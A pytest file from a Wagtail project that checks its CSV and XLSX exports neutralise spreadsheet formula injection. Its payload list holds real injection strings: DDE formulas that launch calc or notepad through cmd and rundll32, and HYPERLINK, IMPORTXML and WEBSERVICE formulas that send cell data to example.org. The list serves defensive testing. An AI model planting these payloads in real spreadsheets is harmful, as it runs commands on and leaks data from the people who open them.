"""No spreadsheet takes a cell of an export for a formula."""

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.snippets.models import get_snippet_models

from essaimage_wagtail.admin.exports import ExportMixin, without_formula
from essaimage_wagtail.models import Theme
from essaimage_wagtail.multilingual.report import State

from .translating import translate

# From OWASP's page on CSV injection, its payload collections (PayloadsAllTheThings, SecLists) and public reports.
PAYLOADS = [
    '=HYPERLINK("http://example.org?x="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=DDE(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=IMPORTXML(CONCAT("http://example.org?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=WEBSERVICE("http://example.org")',
    "\n-3+3+cmd|' /C calc'!D2",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=1;2",
    '="";=1+1',
    "-1-1",
    "--1",
    "+33 6 12 34 56 78",
]
HARMLESS = ["Jardin", "", "a=b", "user@example.org", "2-1", "-12", "-12.5", "-12,5", "+3", "'=1", "«-»", "№ 1", "été"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_begins_like_a_formula_is_a_text(payload):
    assert without_formula(payload) == f"'{payload}"


@pytest.mark.parametrize("value", [*HARMLESS, -12, -1.5, Decimal("-3"), None, True, date(2024, 1, 1)])
def test_all_else_stays(value):
    assert without_formula(value) is value


def cells(client, url, kind):
    answer = client.get(url, {"export": kind})
    content = b"".join(answer.streaming_content)
    if kind == "csv":
        return [cell for row in csv.reader(StringIO(content.decode(), newline="")) for cell in row]
    cells = [cell for row in load_workbook(BytesIO(content)).active for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "b", "d"}
    return [cell.value for cell in cells]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_report(admin_client, make_sheet, kind):
    for number, payload in enumerate(PAYLOADS):
        make_sheet(payload.replace("\0", ""), slug=f"sheet-{number}", publish=False)
    found = [cell for cell in cells(admin_client, reverse("essaimage_sheets_report"), kind) if isinstance(cell, str)]
    assert [cell for cell in found if without_formula(cell) != cell] == []
    assert sum(cell.startswith("'") for cell in found) >= len(PAYLOADS) - 2, "Wagtail trims some titles"


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_report_of_translations(admin_client, make_sheet, kind):
    translate(make_sheet("Jardins"), "es")
    found = cells(admin_client, reverse("essaimage_translations_report"), kind)
    assert {"Jardins", str(State.CURRENT.label)} <= set(found)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_list_that_a_site_exports(admin_client, site, monkeypatch, kind):
    for number, payload in enumerate(PAYLOADS):
        Theme.objects.create(name=payload.replace("\0", ""), slug=f"t{number}", locale=site.locales["fr"])
    monkeypatch.setattr(Theme.snippet_viewset.index_view_class, "list_export", ["name"])
    found = cells(admin_client, reverse(Theme.snippet_viewset.get_url_name("list")), kind)
    assert len(found) > len(PAYLOADS)
    assert [cell for cell in found if without_formula(cell) != cell] == []


def test_every_view_of_ours_that_exports():
    from essaimage_wagtail.admin.upkeep.links_report import OutsideLinksReport
    from essaimage_wagtail.admin.upkeep.report import CommonsReport, SheetsReport
    from essaimage_wagtail.multilingual.report import TranslationsReport

    ours = [model for model in get_snippet_models() if model.__module__.startswith("essaimage_wagtail.")]
    views = [model.snippet_viewset.index_view_class for model in ours]
    views += [SheetsReport, CommonsReport, OutsideLinksReport, TranslationsReport]
    assert len(views) > 8
    for view in views:
        assert issubclass(view, SpreadsheetExportMixin)
        assert issubclass(view, ExportMixin), view
